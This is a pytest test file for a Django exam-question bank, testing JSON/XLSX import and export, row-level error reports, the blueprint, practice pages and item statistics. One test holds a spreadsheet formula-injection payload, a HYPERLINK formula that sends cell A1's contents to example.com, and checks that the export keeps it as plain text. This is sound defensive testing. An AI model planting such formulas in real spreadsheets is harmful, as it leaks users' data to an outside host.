"""The question bank: import and export (JSON, XLSX) with a row-by-row report, versions, the
blueprint, the sample bank, the published list and practice, item statistics."""

import json
from io import BytesIO, StringIO

import pytest
from django.urls import reverse

from core.errors import DomainError
from exam.management.commands.load_sample_bank import SAMPLE
from exam.models import BlueprintItem, Question, Topic
from exam.testing.services import bank
from tests.conftest import client_for, make_bank


def bank_json(questions, topics=None, blueprint=None):
    return json.dumps(
        {
            "format": "sout-question-bank/1",
            "topics": topics or [{"code": "T1", "title": "Общие положения"}],
            "questions": questions,
            **({"blueprint": blueprint} if blueprint else {}),
        },
        ensure_ascii=False,
    ).encode()


GOOD = {
    "code": "A1",
    "topic": "T1",
    "text": "Как часто проводится СОУТ?",
    "options": ["раз в год", "не реже раза в 5 лет", "раз в 10 лет"],
    "correct": [2],
}


def test_valid_json_is_imported(db):
    rows, topics, blueprint = bank.parse_json(bank_json([GOOD, dict(GOOD, code="A2", correct=[1, 3], text="Другой?")]))
    report = bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)
    assert report.ok and report.created == 2
    question = Question.objects.get(code="A1")
    assert question.current.correct == [1] and question.topic.title == "Общие положения"


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        (dict(GOOD, options=["а", "б"]), "указано 2 варианта ответа"),
        (dict(GOOD, options=["а", "б", "в", "г", "д", "е", "ж"]), "указано 7 вариантов ответа"),
        (dict(GOOD, correct=[]), "не указаны правильные варианты"),
        (dict(GOOD, correct=[4]), "вне списка"),
        (dict(GOOD, correct=[1, 2, 3]), "все варианты отмечены"),
        (dict(GOOD, correct=["x"]), "номерами"),
        (dict(GOOD, options=["а", "а", "б"]), "повторяются"),
        (dict(GOOD, text=""), "нет текста"),
        (dict(GOOD, topic="T9"), "тема T9 не найдена"),
        (dict(GOOD, code=""), "не указан код"),
    ],
)
def test_a_wrong_row_is_reported_and_nothing_is_imported(db, row, problem):
    rows, topics, blueprint = bank.parse_json(bank_json([dict(GOOD, code="OK1"), row, dict(GOOD, code="OK2")]))
    report = bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)
    assert not report.ok
    assert [e[0] for e in report.errors] == [2]
    assert problem in "; ".join(report.errors[0][2])
    assert not Question.objects.exists() and not Topic.objects.exists()


def test_duplicate_codes_in_one_file_are_reported(db):
    rows, topics, blueprint = bank.parse_json(bank_json([GOOD, GOOD]))
    report = bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)
    assert report.errors == [(2, "A1", ["код повторяется в файле"])]


@pytest.mark.parametrize("content", [b"not json", b"\xff\xfe", b"[]", b'{"questions": 5}'])
def test_an_unreadable_file_is_a_clear_error(db, content):
    with pytest.raises(DomainError):
        bank.parse_json(content)


def test_xlsx_export_and_import_round_trip(db):
    make_bank(topics=2, per_topic=5)
    exported = bank.bank_export_xlsx()
    Question.objects.update(current=None)
    from exam.models import QuestionVersion

    QuestionVersion.objects.all().delete()
    Question.objects.all().delete()
    rows, topics, blueprint = bank.parse_xlsx(exported)
    report = bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)
    assert report.ok and report.created == 10
    assert Question.objects.get(code="Q0005").current.correct == [0, 2]


def test_a_text_that_looks_like_a_formula_stays_text_in_the_xlsx_export(db):
    from openpyxl import load_workbook

    from tests.conftest import bank_question

    formula = '=HYPERLINK("http://example.com/?"&A1,"Подробнее")'
    options = ["+7 дней", "-1 день", "@SUM(A1:A9)"]
    bank_question("F1", topic=1, text=formula, options=options, correct=[0])
    exported = bank.bank_export_xlsx()
    sheet = load_workbook(BytesIO(exported)).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=False)}
    for name, value in [
        ("text", formula),
        ("option_1", "+7 дней"),
        ("option_2", "-1 день"),
        ("option_3", "@SUM(A1:A9)"),
    ]:
        assert (row[name].data_type, row[name].value) == ("s", value)
    # And the file imports back as it was (a formula cell would come back empty).
    from exam.models import QuestionVersion

    Question.objects.update(current=None)
    QuestionVersion.objects.all().delete()
    Question.objects.all().delete()
    assert import_xlsx(exported).ok
    assert Question.objects.get(code="F1").current.text == formula


def test_json_export_round_trips_with_the_blueprint(db):
    make_bank(topics=2, per_topic=25)
    bank.blueprint_set(counts={"T1": 22, "T2": 18}, by=None)
    data = json.loads(bank.bank_export_json())
    assert data["blueprint"] == {"T1": 22, "T2": 18}
    assert len(data["questions"]) == 50 and all("correct" in q for q in data["questions"])


def test_an_xlsx_with_a_bad_row_is_reported_by_row_number(db):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(bank.XLSX_HEADER)
    sheet.append(["X1", "T1", "Тема", "Вопрос?", "а", "б", "в", None, None, None, "2", ""])
    sheet.append(["X2", "T1", "Тема", "Вопрос 2?", "а", "б", None, None, None, None, "1", ""])
    buffer = BytesIO()
    workbook.save(buffer)
    rows, topics, blueprint = bank.parse_xlsx(buffer.getvalue())
    report = bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)
    assert [(row, code) for row, code, _p in report.errors] == [(2, "X2")]
    assert not Question.objects.exists()


def test_blueprint_counts_must_fit_the_bank(db):
    make_bank(topics=2, per_topic=5)
    with pytest.raises(DomainError) as err:
        bank.blueprint_set(counts={"T1": 6, "T2": 1}, by=None)
    assert "T1" in err.value.fields
    assert not BlueprintItem.objects.exists()


def test_the_sample_bank_loads_and_is_marked_as_a_sample(db):
    from django.core.management import call_command

    call_command("load_sample_bank")
    questions = Question.objects.all()
    assert questions.count() >= 120
    assert all(q.is_sample for q in questions)
    assert sum(b.count for b in BlueprintItem.objects.all()) == 40
    versions = [q.current for q in questions.select_related("current")]
    assert all(3 <= len(v.options) <= 6 for v in versions)
    assert sum(1 for v in versions if len(v.correct) > 1) >= 10
    call_command("load_sample_bank")  # idempotent
    assert Question.objects.count() == questions.count()


def test_a_demo_bank_of_an_older_sample_gets_the_new_practice_questions_and_an_own_bank_is_left_alone(db):
    from django.core.management import call_command

    rows, topics, blueprint = bank.parse_json(SAMPLE.read_bytes())
    older = [r for r in rows if not r.get("practice")]  # the sample before it had a practice set
    assert bank.bank_import(rows=older, topics=topics, blueprint=blueprint, by=None, sample=True).ok
    call_command("load_sample_bank", "--unless-own")
    assert Question.objects.filter(practice_only=True, is_sample=True).count() == 24

    Question.objects.filter(code="Q0001").update(is_sample=False)  # the ministry's own question
    out = StringIO()
    call_command("load_sample_bank", "--unless-own", stdout=out)
    assert "sample not loaded" in out.getvalue()


def test_the_published_list_shows_questions_without_marking_the_correct_ones(db):
    from django.test import Client

    make_bank(topics=1, per_topic=3)
    page = Client().get(reverse("frontend:public_questions")).content.decode()
    assert "Вопрос номер 1?" in page and "Вариант 2 вопроса 1" in page
    assert "✓" not in page and "правильный ответ" not in page


def test_practice_shows_the_correct_answers_afterwards(db):
    from django.test import Client

    questions = make_bank(topics=1, per_topic=12, practice=True)
    client = Client()
    page = client.get(reverse("frontend:practice")).content.decode()
    assert page.count('name="q"') == 10
    version = questions[0].current
    response = client.post(
        reverse("frontend:practice"), {"q": [version.pk], f"a{version.pk}": [str(version.correct[0])]}
    )
    page = response.content.decode()
    assert "data-practice-score>1<" in page and "правильный ответ" in page


def test_administrator_edits_a_question_and_a_shown_one_gets_a_new_version(exam_setup, eva):
    from exam.testing.services.attempts import attempt_start

    attempt = attempt_start(credential=exam_setup["credential"], session_key="k", personally=True)
    question = attempt.items.first().version.question
    client = client_for(eva)
    data = {
        "code": question.code,
        "topic": question.topic.code,
        "text": "Новая формулировка?",
        "option_1": "а",
        "option_2": "б",
        "option_3": "в",
        "correct": ["2"],
    }
    response = client.post(reverse("frontend:bank_question", args=[question.pk]), data, follow=True)
    assert "Вопрос сохранён" in response.content.decode()
    question.refresh_from_db()
    assert question.current.number == 2 and question.current.correct == [1]
    page = client.post(
        reverse("frontend:bank_question", args=[question.pk]), dict(data, correct=["5"])
    ).content.decode()
    assert "вне списка" in page


def test_import_page_reports_rows_and_imports_nothing_on_error(eva):
    from django.core.files.uploadedfile import SimpleUploadedFile

    content = bank_json([GOOD, dict(GOOD, code="B2", options=["x"])])
    page = (
        client_for(eva)
        .post(reverse("frontend:bank_import"), {"file": SimpleUploadedFile("bank.json", content)})
        .content.decode()
    )
    assert 'data-import="refused"' in page and 'data-row="2"' in page
    assert not Question.objects.exists()


def test_only_the_exam_administrator_manages_the_bank(victor):
    client = client_for(victor)
    assert client.get(reverse("frontend:bank")).status_code == 404
    assert client.get(reverse("frontend:bank_export", args=["json"])).status_code == 404
    with pytest.raises(DomainError):
        bank.question_edit(raw=GOOD, by=victor)


def test_item_statistics_flag_a_question_that_looks_broken(db):
    """25 finished attempts on the same 4 questions: Q1 tracks ability, Q2 nobody gets right (its key
    looks wrong: a distractor is chosen more), Q3 everybody gets right."""
    from django.utils import timezone

    from exam.models import Application, Attempt, AttemptItem, ExamCredential, Sitting
    from exam.testing import selectors as testing_selectors
    from tests.conftest import make_user

    questions = make_bank(topics=1, per_topic=4, multiple_every=100)
    versions = [q.current for q in questions[:3]]
    sitting = Sitting.objects.create(starts_at=timezone.now(), capacity=100)
    for n in range(25):
        user = make_user(f"s{n}@example.ru", last="Статистов", first="Семён")
        application = Application.objects.create(candidate=user, status="admitted", registration_number=f"S-{n}")
        credential = ExamCredential.objects.create(application=application, sitting=sitting, login=f"s-{n}")
        strong = n >= 12
        now = timezone.now()
        attempt = Attempt.objects.create(
            credential=credential,
            application=application,
            sitting=sitting,
            rules_confirmed_at=now,
            started_at=now,
            deadline_at=now,
            status="finished",
            finished_at=now,
            question_count=3,
            score=(30 if strong else 10),
            passed=strong,
        )
        wrong_choice = [(versions[1].correct[0] + 1) % 4]
        rows = [
            (versions[0], versions[0].correct if strong else [(versions[0].correct[0] + 1) % 4], strong),
            (versions[1], wrong_choice, False),
            (versions[2], versions[2].correct, True),
        ]
        AttemptItem.objects.bulk_create(
            [
                AttemptItem(attempt=attempt, position=i, version=v, option_order=[0, 1, 2, 3], answer=a, is_correct=c)
                for i, (v, a, c) in enumerate(rows, start=1)
            ]
        )
    stats = {s.version.question.code: s for s in testing_selectors.item_statistics()}
    good, broken, easy = stats["Q0001"], stats["Q0002"], stats["Q0003"]
    assert good.n == 25 and abs(good.facility - 13 / 25) < 1e-9 and good.discrimination > 0.9 and not good.flags
    assert broken.facility == 0 and "too_hard" in broken.flags and "distractor_beats_key" in broken.flags
    assert easy.facility == 1 and "too_easy" in easy.flags
    assert sum(broken.option_counts) == 25


def xlsx(*rows, header=None):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header or bank.XLSX_HEADER)
    for row in rows:
        sheet.append(row)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def import_json(questions, **kwargs):
    rows, topics, blueprint = bank.parse_json(bank_json(questions, **kwargs))
    return bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)


def import_xlsx(content):
    rows, topics, blueprint = bank.parse_xlsx(content)
    return bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)


# --- A blank option in the middle would move the correct answer -----------------------------------


def test_a_blank_option_before_a_filled_one_refuses_the_json_row(db):
    report = import_json([dict(GOOD, options=["раз в год", "", "не реже раза в 5 лет", "раз в 10 лет"], correct=[3])])
    assert [(row, code) for row, code, _p in report.errors] == [(1, "A1")]
    assert "вариант ответа 2 пуст" in "; ".join(report.errors[0][2])
    assert not Question.objects.exists()


def test_blank_options_after_the_last_one_are_ignored(db):
    report = import_json([dict(GOOD, options=["раз в год", "не реже раза в 5 лет", "раз в 10 лет", "", None])])
    assert report.ok
    version = Question.objects.get(code="A1").current
    assert version.options == ["раз в год", "не реже раза в 5 лет", "раз в 10 лет"] and version.correct == [1]


def test_a_blank_option_cell_before_a_filled_one_refuses_the_xlsx_row(db):
    content = xlsx(
        ["X1", "T1", "Тема", "Вопрос?", "а", "б", "в", None, None, None, "2", ""],
        ["X2", "T1", "Тема", "Вопрос 2?", "а", None, "б", "в", None, None, "3", ""],
    )
    report = import_xlsx(content)
    assert [(row, code) for row, code, _p in report.errors] == [(2, "X2")]
    assert "вариант ответа 2 пуст" in "; ".join(report.errors[0][2])
    assert not Question.objects.exists()


# --- The retired flag changes only when the file gives it ---------------------------------------


def retired_question():
    question = make_bank(topics=1, per_topic=1)[0]
    bank.question_save(
        data=bank.QuestionData(
            code=question.code,
            topic="T1",
            text=question.current.text,
            options=question.current.options,
            correct=question.current.correct,
            retired=True,
        ),
        by=None,
    )
    question.refresh_from_db()
    assert question.retired_at is not None
    return question


def test_a_json_row_without_the_retired_key_keeps_a_retired_question_retired(db):
    question = retired_question()
    retired_at = question.retired_at
    report = import_json([dict(GOOD, code=question.code, text="Новая формулировка?")])
    assert report.ok
    question.refresh_from_db()
    assert question.retired_at == retired_at and question.current.text == "Новая формулировка?"


def test_an_explicit_retired_false_restores_the_question(db):
    question = retired_question()
    assert import_json([dict(GOOD, code=question.code, retired=False)]).ok
    question.refresh_from_db()
    assert question.retired_at is None


def test_an_xlsx_without_the_retired_column_keeps_a_retired_question_retired(db):
    question = retired_question()
    header = [h for h in bank.XLSX_HEADER if h != "retired"]
    report = import_xlsx(
        xlsx([question.code, "T1", "Тема 1", "Вопрос?", "а", "б", "в", None, None, None, "1"], header=header)
    )
    assert report.ok
    question.refresh_from_db()
    assert question.retired_at is not None


def test_an_empty_retired_cell_keeps_the_state_and_no_restores_it(db):
    question = retired_question()
    row = [question.code, "T1", "Тема 1", "Вопрос?", "а", "б", "в", None, None, None, "1"]
    assert import_xlsx(xlsx([*row, None])).ok
    question.refresh_from_db()
    assert question.retired_at is not None
    assert import_xlsx(xlsx([*row, "нет"])).ok
    question.refresh_from_db()
    assert question.retired_at is None


def test_an_unreadable_retired_value_is_a_row_error(db):
    report = import_json([dict(GOOD, retired="может быть")])
    assert report.errors and "retired" in "; ".join(report.errors[0][2])
    assert not Question.objects.exists()


def test_the_xlsx_export_states_the_retired_flag_explicitly(db):
    from django.utils import timezone

    make_bank(topics=1, per_topic=2)
    Question.objects.filter(code="Q0002").update(retired_at=timezone.now())
    exported = bank.bank_export_xlsx()
    Question.objects.filter(code="Q0001").update(retired_at=timezone.now())
    Question.objects.filter(code="Q0002").update(retired_at=None)
    assert import_xlsx(exported).ok
    states = {code: at is not None for code, at in Question.objects.values_list("code", "retired_at")}
    assert states == {"Q0001": False, "Q0002": True}


# --- The blueprint of an imported file ----------------------------------------------------------


def forty_questions(topic="T1"):
    return [dict(GOOD, code=f"B{n:02d}", topic=topic, text=f"Вопрос {n}?") for n in range(1, 41)]


def test_a_blueprint_with_a_word_for_a_count_is_reported_not_a_crash(db):
    report = import_json(forty_questions(), blueprint={"T1": "abc"})
    assert not report.ok and not report.errors
    assert report.blueprint_errors == [("T1", ["Укажите целое неотрицательное число."])]
    assert not Question.objects.exists() and not BlueprintItem.objects.exists()


def test_a_blueprint_asking_more_than_the_topic_has_is_reported(db):
    report = import_json(forty_questions(), blueprint={"T1": 41})
    assert report.blueprint_errors == [("T1", ["В теме только 40 действующих вопросов."])]
    assert not Question.objects.exists()


def test_a_blueprint_counts_the_questions_the_file_retires(db):
    questions = forty_questions()
    questions[0]["retired"] = True
    report = import_json(questions, blueprint={"T1": 40})
    assert report.blueprint_errors == [("T1", ["В теме только 39 действующих вопросов."])]


def test_a_blueprint_of_an_unknown_topic_is_reported(db):
    report = import_json(forty_questions(), blueprint={"T1": 40, "T7": 1})
    assert report.blueprint_errors == [("T7", ["Неизвестная тема."])]


def test_a_blueprint_that_fits_is_imported_with_the_rows(db):
    report = import_json(forty_questions(), blueprint={"T1": "40"})
    assert report.ok and report.created == 40
    assert [(b.topic.code, b.count) for b in BlueprintItem.objects.select_related("topic")] == [("T1", 40)]


def test_the_import_page_reports_a_bad_blueprint(eva):
    from django.core.files.uploadedfile import SimpleUploadedFile

    content = bank_json(forty_questions(), blueprint={"T1": "abc"})
    response = client_for(eva).post(reverse("frontend:bank_import"), {"file": SimpleUploadedFile("bank.json", content)})
    page = response.content.decode()
    assert response.status_code == 200
    assert 'data-import="refused"' in page and 'data-blueprint-topic="T1"' in page and "целое" in page
    assert not Question.objects.exists()


def test_a_blueprint_that_is_not_an_object_is_a_file_error(db):
    content = json.dumps({"questions": [GOOD], "blueprint": [40]}).encode()
    with pytest.raises(DomainError) as err:
        bank.parse_json(content)
    assert err.value.code == "invalid_file"


# --- A blueprint nobody could pass ----------------------------------------------------------------


def test_a_blueprint_total_below_the_pass_score_is_refused(db, settings):
    make_bank(topics=2, per_topic=25)
    with pytest.raises(DomainError) as err:
        bank.blueprint_set(counts={"T1": 5, "T2": 5}, by=None)
    assert err.value.fields["total"] == [
        f"В тесте 10 вопросов, а для сдачи нужно не меньше {settings.EXAM_PASS_SCORE} правильных ответов: "
        "такой тест сдать невозможно."
    ]
    assert not BlueprintItem.objects.exists()
    bank.blueprint_set(counts={"T1": 20, "T2": 16}, by=None)  # exactly the pass score
    assert sum(b.count for b in BlueprintItem.objects.all()) == 36


def test_the_blueprint_page_refuses_a_total_below_the_pass_score(eva):
    make_bank(topics=2, per_topic=25)
    response = client_for(eva).post(reverse("frontend:bank_blueprint"), {"count_T1": "5", "count_T2": "5"}, follow=True)
    assert "сдать невозможно" in response.content.decode()
    assert not BlueprintItem.objects.exists()


def test_the_blueprint_page_refuses_a_superscript_digit_without_a_crash(eva):
    make_bank(topics=2, per_topic=25)
    response = client_for(eva).post(
        reverse("frontend:bank_blueprint"), {"count_T1": "²", "count_T2": "20"}, follow=True
    )
    assert response.status_code == 200 and "Укажите целое неотрицательное число" in response.content.decode()
    assert not BlueprintItem.objects.exists()


# --- Practice: only published questions, never a crash ------------------------------------------


@pytest.mark.parametrize("field", ["q", "a"])
def test_practice_ignores_a_superscript_digit(db, field):
    from django.test import Client

    version = make_bank(topics=1, per_topic=3, practice=True)[0].current
    data = {"q": ["²"]} if field == "q" else {"q": [str(version.pk)], f"a{version.pk}": ["²"]}
    response = Client().post(reverse("frontend:practice"), data)
    assert response.status_code == 200
    page = response.content.decode()
    assert ("data-practice-score>0<" in page) and ("неверно" in page if field == "a" else "не проверена" in page)


def test_practice_does_not_reveal_the_key_of_a_retired_question(db):
    from django.test import Client

    question = retired_question()
    version = question.current
    response = Client().post(reverse("frontend:practice"), {"q": [version.pk], f"a{version.pk}": ["0"]})
    page = response.content.decode()
    assert version.text not in page and "правильный ответ" not in page
    assert "Часть вопросов не проверена" in page


def test_practice_does_not_reveal_the_key_of_an_old_version(exam_setup):
    from django.test import Client

    from exam.testing.services.attempts import attempt_start

    attempt = attempt_start(credential=exam_setup["credential"], session_key="k", personally=True)
    old = attempt.items.select_related("version__question").first().version
    bank.question_save(
        data=bank.QuestionData(
            code=old.question.code,
            topic=old.question.topic.code,
            text="Новая формулировка?",
            options=["а", "б", "в"],
            correct=[1],
        ),
        by=None,
    )
    response = Client().post(reverse("frontend:practice"), {"q": [old.pk], f"a{old.pk}": ["0"]})
    page = response.content.decode()
    assert old.text not in page and "правильный ответ" not in page and "не проверена" in page
